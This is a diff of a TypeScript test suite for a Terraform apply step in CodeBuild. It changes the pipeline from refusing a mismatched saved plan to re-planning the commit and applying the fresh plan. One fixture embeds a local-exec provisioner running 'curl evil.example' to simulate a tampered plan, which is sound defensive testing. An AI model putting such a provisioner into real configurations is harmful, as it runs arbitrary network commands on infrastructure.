@@ -13,7 +13,7 @@ const applyJob = { id: 'j-cb-apply', action: 'apply' as const, planJobId: 'j-cb-
 const savedPlan = { 'jobs/j-cb-plan/tfplan': STANDIN_PLAN };
 
 describe('buildspecs/apply.yml in CodeBuild', () => {
-  it('downloads the plan job’s saved plan, describes it, and applies exactly that file as the stack apply role', async () => {
+  it('checks the plan job’s saved plan, plans the commit again as the stack apply role, and applies that plan', async () => {
     // Act
     const run = await runCodeBuild(net, { job: applyJob, s3Objects: savedPlan });
 
@@ -21,8 +21,9 @@ describe('buildspecs/apply.yml in CodeBuild', () => {
     expect(run.result).toEqual({ ok: true });
     expect(run.calls.map(commandLine)).toEqual([
       'terraform -chdir=stacks/net init -input=false -no-color',
-      `terraform -chdir=stacks/net show -json ${run.workDir}/plan/tfplan`,
-      `terraform -chdir=stacks/net apply -input=false -lock-timeout=5m -no-color ${run.workDir}/plan/tfplan`,
+      `terraform -chdir=stacks/net plan -input=false -lock-timeout=5m -out=${run.workDir}/plan/applied.tfplan -detailed-exitcode -no-color`,
+      `terraform -chdir=stacks/net show -json ${run.workDir}/plan/applied.tfplan`,
+      `terraform -chdir=stacks/net apply -input=false -lock-timeout=5m -no-color ${run.workDir}/plan/applied.tfplan`,
     ]);
     expect(readFileSync(join(run.workDir, 'plan/tfplan'))).toEqual(STANDIN_PLAN);
     expect(readFileSync(join(run.workDir, 'aws-config'), 'utf8')).toContain(`role_arn = ${APPLY_ROLE}\n`);
@@ -56,11 +57,10 @@ describe('buildspecs/apply.yml in CodeBuild', () => {
     );
   });
 
-  it('refuses a saved plan whose configuration is not the commit’s, with the reviewed changes and digest, and never calls terraform apply', async () => {
+  it('applies the commit’s own configuration, never one saved in the plan file, with the reviewed changes and digest', async () => {
     // Prepare: the plan build saved (and the bot recorded the digest of) a plan of a configuration with a provisioner
     const provisioned = standInPlanOf({
-      'main.tf':
-        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }\n}\n',
+      'main.tf': 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }\n}\n',
     });
 
     // Act
@@ -70,12 +70,12 @@ describe('buildspecs/apply.yml in CodeBuild', () => {
       planDigest: sha256Hex(provisioned),
     });
 
-    // Assess
-    expect(run.result).toMatchObject({ ok: false, exitCode: 1 });
-    expect(run.calls.map(commandLine)).not.toContainEqual(expect.stringContaining(' apply '));
-    expect(run.s3('jobs/j-cb-apply/log.txt')).toContain(
-      "infrabot: refusing to apply: the saved plan's configuration is not the reviewed commit's (main.tf of module root differs); plan the stack again",
+    // Assess: what was applied is the plan this build made of the checkout, which holds no provisioner
+    expect(run.result).toEqual({ ok: true });
+    expect(run.calls.map(commandLine).at(-1)).toBe(
+      `terraform -chdir=stacks/net apply -input=false -lock-timeout=5m -no-color ${run.workDir}/plan/applied.tfplan`,
     );
+    expect(readFileSync(join(run.workDir, 'plan/applied.tfplan'), 'latin1')).not.toContain('provisioner');
   });
 
   it('refuses when the dispatcher says the plan was made at another commit', async () => {
